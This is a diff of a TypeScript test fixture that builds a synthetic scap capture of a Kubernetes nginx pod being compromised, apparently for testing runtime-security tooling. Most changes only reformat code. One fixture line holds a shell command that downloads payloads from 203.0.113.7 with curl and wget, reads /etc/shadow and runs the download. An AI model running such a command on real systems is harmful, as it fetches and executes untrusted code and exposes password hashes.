@@ -29,17 +29,58 @@ export function storyScap(): Buffer {
         { tid: 812, pid: 812, ptid: 1, comm: 'containerd', exe: '/usr/bin/containerd', exepath: '/usr/bin/containerd' },
         { tid: 901, pid: 901, ptid: 1, comm: 'sshd', exe: '/usr/sbin/sshd', exepath: '/usr/sbin/sshd', args: ['-D'] },
         {
-          tid: 2301, pid: 2301, ptid: 1, comm: 'containerd-shim', exe: '/usr/bin/containerd-shim-runc-v2',
-          exepath: '/usr/bin/containerd-shim-runc-v2', args: ['-namespace', 'k8s.io', '-id', CID, '-address', '/run/containerd/containerd.sock'],
+          tid: 2301,
+          pid: 2301,
+          ptid: 1,
+          comm: 'containerd-shim',
+          exe: '/usr/bin/containerd-shim-runc-v2',
+          exepath: '/usr/bin/containerd-shim-runc-v2',
+          args: ['-namespace', 'k8s.io', '-id', CID, '-address', '/run/containerd/containerd.sock'],
         },
-        { tid: 2330, pid: 2330, ptid: 2301, vtid: 1, vpid: 1, comm: 'nginx', exe: 'nginx: master process nginx -g daemon off;', exepath: '/usr/sbin/nginx', cgroups },
-        { tid: 2351, pid: 2351, ptid: 2330, vtid: 29, vpid: 29, comm: 'nginx', exe: 'nginx: worker process', exepath: '/usr/sbin/nginx', uid: 101, gid: 101, cgroups },
-        { tid: 2352, pid: 2352, ptid: 2330, vtid: 30, vpid: 30, comm: 'nginx', exe: 'nginx: worker process', exepath: '/usr/sbin/nginx', uid: 101, gid: 101, cgroups },
+        {
+          tid: 2330,
+          pid: 2330,
+          ptid: 2301,
+          vtid: 1,
+          vpid: 1,
+          comm: 'nginx',
+          exe: 'nginx: master process nginx -g daemon off;',
+          exepath: '/usr/sbin/nginx',
+          cgroups,
+        },
+        {
+          tid: 2351,
+          pid: 2351,
+          ptid: 2330,
+          vtid: 29,
+          vpid: 29,
+          comm: 'nginx',
+          exe: 'nginx: worker process',
+          exepath: '/usr/sbin/nginx',
+          uid: 101,
+          gid: 101,
+          cgroups,
+        },
+        {
+          tid: 2352,
+          pid: 2352,
+          ptid: 2330,
+          vtid: 30,
+          vpid: 30,
+          comm: 'nginx',
+          exe: 'nginx: worker process',
+          exepath: '/usr/sbin/nginx',
+          uid: 101,
+          gid: 101,
+          cgroups,
+        },
       ],
     },
     (b) => {
       b.container({
-        id: CID, name: 'nginx', image: 'docker.io/library/nginx:latest',
+        id: CID,
+        name: 'nginx',
+        image: 'docker.io/library/nginx:latest',
         labels: { app: 'nginx', 'io.kubernetes.pod.name': 'nginx-test', 'io.kubernetes.pod.namespace': 'default', 'io.kubernetes.pod.uid': POD_UID },
       });
       // host: alice logs in over ssh
@@ -47,16 +88,24 @@ export function storyScap(): Buffer {
       b.fork(901, 3100, { uid: 1000, cwd: '/home/alice' }).exec(3100, { filename: '/usr/bin/bash', argv0: '-bash', comm: 'bash', loginuid: 1000 });
       b.filler(3100, 20);
       b.tick(4_000_000_000n);
-      b.fork(3100, 3105).exec(3105, { filename: '/usr/bin/ls', argv0: 'ls', args: ['-la', '/home/alice'] }).filler(3105, 10).exit(3105);
+      b.fork(3100, 3105)
+        .exec(3105, { filename: '/usr/bin/ls', argv0: 'ls', args: ['-la', '/home/alice'] })
+        .filler(3105, 10)
+        .exit(3105);
       b.tick(3_000_000_000n);
-      b.fork(3100, 3106).exec(3106, { filename: '/usr/bin/ps', argv0: 'ps', args: ['aux'] }).filler(3106, 30).exit(3106);
+      b.fork(3100, 3106)
+        .exec(3106, { filename: '/usr/bin/ps', argv0: 'ps', args: ['aux'] })
+        .filler(3106, 30)
+        .exit(3106);
       // the pod: a worker thread, then the worker spawns a shell
       b.tick(1_000_000_000n);
       b.fork(2351, 2360, { flags: CL.THREAD | CL.VM | CL.FILES | CL.FS | CL.SIGHAND | IN_POD, vtid: 31 });
       b.filler(2351, 20);
       b.tick(5_000_000_000n);
       b.fork(2351, 4001, { vtid: 31, flags: IN_POD }).exec(4001, {
-        filename: '/bin/sh', exepath: '/bin/sh', argv0: '/bin/sh',
+        filename: '/bin/sh',
+        exepath: '/bin/sh',
+        argv0: '/bin/sh',
         args: ['-c', 'curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &'],
       });
       b.fork(4001, 4002, { kind: 'vfork', vtid: 32, flags: IN_POD, sides: ['child', 'caller'] })
@@ -79,9 +128,14 @@ export function storyScap(): Buffer {
       b.exec(4005, { filename: '/tmp/x', argv0: '/tmp/x', ptid: 2330 }).filler(4005, 30);
       // host again, with pid reuse of 3105 and of 4002
       b.tick(3_000_000_000n);
-      b.fork(3100, 3105).exec(3105, { filename: '/usr/bin/cat', argv0: 'cat', args: ['/etc/hostname'] }).exit(3105);
+      b.fork(3100, 3105)
+        .exec(3105, { filename: '/usr/bin/cat', argv0: 'cat', args: ['/etc/hostname'] })
+        .exit(3105);
       b.tick(2_000_000_000n);
-      b.fork(3100, 4002).exec(4002, { filename: '/usr/bin/top', argv0: 'top', args: ['-b', '-n', '1'] }).filler(4002, 20).exit(4002);
+      b.fork(3100, 4002)
+        .exec(4002, { filename: '/usr/bin/top', argv0: 'top', args: ['-b', '-n', '1'] })
+        .filler(4002, 20)
+        .exit(4002);
       b.tick(10_000_000_000n);
       b.exit(4005, 9);
       b.tick(5_000_000_000n);
